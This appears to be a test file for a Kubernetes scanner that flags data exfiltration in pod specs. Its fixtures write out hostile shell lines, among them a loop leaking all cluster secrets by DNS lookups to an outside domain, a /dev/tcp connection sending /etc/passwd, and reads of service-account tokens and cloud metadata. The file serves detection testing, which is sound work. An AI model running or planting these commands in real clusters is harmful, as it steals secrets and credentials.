import { describe, expect, it } from 'vitest';
import type { KubeObject } from '../../src/core/object.js';
import { mainContainerOf } from '../../src/core/tokens.js';
import { containersOf } from '../../src/core/workload.js';
import { commandWords, containerShowsExfiltration, containerTells, outsideHost, showsExfiltration } from '../../src/rules/tells.js';

const pod = (containers: Record<string, unknown>[], spec: Record<string, unknown> = {}): KubeObject => ({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: 'shop' }, spec: { containers, ...spec } });

/** The tells of the last container, as `kind: quote`, and whether they add up to exfiltration. */
function tellsOf(object: KubeObject, tokenPaths: string[] = []): { tells: string[]; exfiltration: boolean } {
  const refs = containersOf(object);
  const tells = containerTells(object, refs[refs.length - 1], mainContainerOf(object), tokenPaths);
  return { tells: tells.map((tell) => `${tell.kind}: ${tell.quote}`), exfiltration: showsExfiltration(tells) };
}

const sh = (script: string, image = 'ghcr.io/acme/app:1.0.0') => ({ name: 'c', image, command: ['/bin/sh', '-c', script] });

describe('exfiltration tells', () => {
  it.each([
    [
      'the battlecard sidecar: loop, kubectl, base64, nslookup of an encoded name under an outside domain',
      pod([sh('while true; do kubectl get secrets -A -o json | base64 -w0 | fold -w 60 | while read c; do nslookup "$c.t.exfil-example.com"; done; sleep 300; done')]),
      ['shell-loop: while true', 'encoding: base64', 'api-server: kubectl', 'outside-address: t.exfil-example.com', 'network-tool: nslookup'],
      true,
    ],
    ['waiting for a database in the cluster is not a way out', pod([sh('until nslookup db.shop.svc.cluster.local; do sleep 2; done')]), [], false],
    ['a reload loop through localhost uses no way out', pod([sh('while true; do curl -s -X POST http://localhost:9090/-/reload; sleep 60; done')]), ['shell-loop: while true'], false],
    ['calling the API server with the token, no outside destination', pod([sh('TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -k -H "Authorization: Bearer $TOKEN" https://$KUBERNETES_SERVICE_HOST/api/v1/secrets')]), ['token-file: /var/run/secrets/kubernetes.io/serviceaccount', 'api-server: $KUBERNETES_SERVICE_HOST', 'api-server: /api/v1/secrets'], false],
    ['a destination only known at run time is a way out', pod([sh('while :; do env | base64 | curl -s -d @- $SINK; sleep 600; done')]), ['shell-loop: while :', 'encoding: base64', 'network-tool: curl'], true],
    ['a URL in arguments alone is not exfiltration (cert-manager names ACME servers)', pod([{ name: 'c', image: 'quay.io/jetstack/cert-manager-controller:v1.14.0', args: ['--acme-http01-solver-image=quay.io/jetstack/cert-manager-acmesolver:v1.14.0', '--default-issuer=https://acme-v02.api.letsencrypt.org/directory'] }]), ['outside-address: acme-v02.api.letsencrypt.org'], false],
    ['script files and Java properties are not domains', pod([{ name: 'c', image: 'app:1.2.0', command: ['python', 'run.py', '-Dspring.profiles.active=prod', 'entrypoint.sh'] }]), [], false],
    ['bash /dev/tcp to a public address', pod([sh('exec 3<>/dev/tcp/203.0.113.9/4444; cat /etc/passwd >&3')]), ['outside-address: 203.0.113.9', 'network-tool: /dev/tcp'], true],
    // Reading node credentials from the metadata service is quoted; with no way out it is not exfiltration.
    ['the cloud metadata address and a token mounted elsewhere', pod([sh('curl -s http://169.254.169.254/latest/meta-data/iam/; cat /var/run/tok/token')]), ['token-file: /var/run/tok', 'cloud-metadata: 169.254.169.254'], false],
    ['outside addresses in environment values, quoted without the value around them', pod([{ name: 'c', image: 'app:1.2.0', env: [{ name: 'SINK', value: 'https://user:hunter2@collect.example.net/in' }, { name: 'PASSWORD', value: 'hunter2' }, { name: 'PEER', value: '8.8.4.4:53' }] }]), ['outside-address: collect.example.net', 'outside-address: 8.8.4.4'], false],
    ['DNS sent to a public resolver is exfiltration on its own', pod([{ name: 'c', image: 'app:1.2.0' }], { dnsPolicy: 'None', dnsConfig: { nameservers: ['10.96.0.10', '198.51.100.53'] } }), ['outside-dns: dnsPolicy: None, nameserver 198.51.100.53'], true],
    ['a private resolver is not', pod([{ name: 'c', image: 'app:1.2.0' }], { dnsPolicy: 'None', dnsConfig: { nameservers: ['10.0.0.2'] } }), [], false],
    ['host network and host aliases are context and egress', pod([sh('while true; do wget -q -O- http://metrics.example.net; sleep 5; done')], { hostNetwork: true, hostAliases: [{ ip: '203.0.113.7', hostnames: ['registry.internal'] }] }), ['shell-loop: while true', 'outside-address: metrics.example.net', 'network-tool: wget', 'host-network: hostNetwork: true', 'host-aliases: registry.internal → 203.0.113.7', 'outside-address: 203.0.113.7'], true],
    ['an image from another registry and a moving tag are context only', pod([{ name: 'main', image: 'ghcr.io/acme/app:1.0.0' }, { name: 'side', image: 'docker.io/someone/helper' }]), ['moving-tag: docker.io/someone/helper', 'foreign-image: docker.io/someone/helper (registry docker.io, not ghcr.io)'], false],
    ['an image of another owner on the same registry', pod([{ name: 'main', image: 'ghcr.io/acme/app:1.0.0' }, { name: 'side', image: 'ghcr.io/4cme/app-helper:1.0.0' }]), ['foreign-image: ghcr.io/4cme/app-helper:1.0.0 (owner 4cme, not acme)'], false],
  ])('%s', (_name, object, tells, exfiltration) => {
    const found = tellsOf(object, ['/var/run/tok']);
    expect(found.tells).toEqual(tells);
    expect(found.exfiltration).toBe(exfiltration);
    // The verdict read without the image (the exfiltration rule's screen) is the same.
    const refs = containersOf(object);
    expect(containerShowsExfiltration(object, refs[refs.length - 1], ['/var/run/tok'])).toBe(exfiltration);
  });

  it('never quotes more than the matched words: no environment value appears whole', () => {
    const { tells } = tellsOf(pod([{ name: 'c', image: 'app:1.2.0', env: [{ name: 'SINK', value: 'https://user:hunter2@collect.example.net/in' }] }]));
    expect(tells.join(' ')).not.toContain('hunter2');
  });
});

describe('commandWords', () => {
  it.each([
    ['while true; do nslookup x; sleep 1; done', ['while', 'nslookup', 'sleep', 'done']],
    ['kubectl get secrets | base64 -w0 && /usr/bin/curl -d @- x', ['kubectl', 'base64', 'curl']],
    ['FOO=1 exec timeout 5 nc host 80', ['nc']],
    ['echo $(cat /etc/hosts | xxd) `od -c x`', ['echo', 'cat', 'xxd', 'od']],
    ['curl --host=example.com', ['curl']],
  ])('%s', (script, words) => {
    expect(commandWords(script)).toEqual(words);
  });
});

describe('outsideHost', () => {
  it.each([
    ['t.exfil-example.com', 'outside'],
    ['8.8.8.8', 'outside'],
    ['10.96.0.1', 'local'],
    ['localhost', 'local'],
    ['db', 'local'],
    ['db.shop.svc.cluster.local', 'local'],
    ['metadata.google.internal', 'local'],
    ['run.sh', undefined],
    ['[fd00::1]', 'local'],
    ['[2606:4700::1111]', 'outside'],
  ])('%s → %s', (host, verdict) => {
    expect(outsideHost(host)).toBe(verdict);
  });
});
